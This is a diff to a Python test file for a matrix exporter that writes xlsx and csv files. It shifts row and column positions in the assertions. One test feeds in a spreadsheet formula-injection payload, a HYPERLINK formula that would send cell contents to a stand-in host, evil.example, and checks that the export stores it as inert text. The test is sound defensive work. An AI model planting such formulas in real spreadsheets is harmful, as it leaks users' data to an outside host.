@@ -90,9 +90,9 @@ def test_matrix_export_is_inert_whatever_the_names(tmp_path, groups, codes, titl
     xlsx = write_matrix(m, tmp_path / "m.xlsx", lang="en")
     sheet = assert_xlsx_is_inert(xlsx)
     values = [[c.value for c in r] for r in sheet.iter_rows()]
-    for line, row in zip(values[1:], m.rows, strict=True):
+    for line, row in zip(values[2:] if m.rows else [], m.rows, strict=True):  # under the area
         # counts stay numbers a spreadsheet can add up
-        assert line[3] == (row.cells["g0"].total if "g0" in row.cells else 0)
+        assert line[1] == (row.cells["g0"].total if "g0" in row.cells else 0)
         assert isinstance(line[-2], int)
     out = write_matrix(m, tmp_path / "m.csv", lang="en")
     rows = csv_rows(out)
@@ -107,9 +107,9 @@ def test_the_reviewed_formula_group_is_text_in_both_files(tmp_path):
     name = '=HYPERLINK("http://evil.example/?d="&C2&C3,"Ledere")'
     m = matrix_of([name, "Ledere\x0bmøte"], ["1.1"], ["Strategi"])
     sheet = assert_xlsx_is_inert(write_matrix(m, tmp_path / "m.xlsx"))
-    assert sheet["D1"].value == "'" + name
-    assert sheet["D1"].data_type == "s"
-    assert sheet["E1"].value == "Ledere\nmøte"
+    assert sheet["B1"].value == "'" + name
+    assert sheet["B1"].data_type == "s"
+    assert sheet["C1"].value == "Ledere\nmøte"
     assert csv_rows(write_matrix(m, tmp_path / "m.csv"))[0][3] == "'" + name
 
 
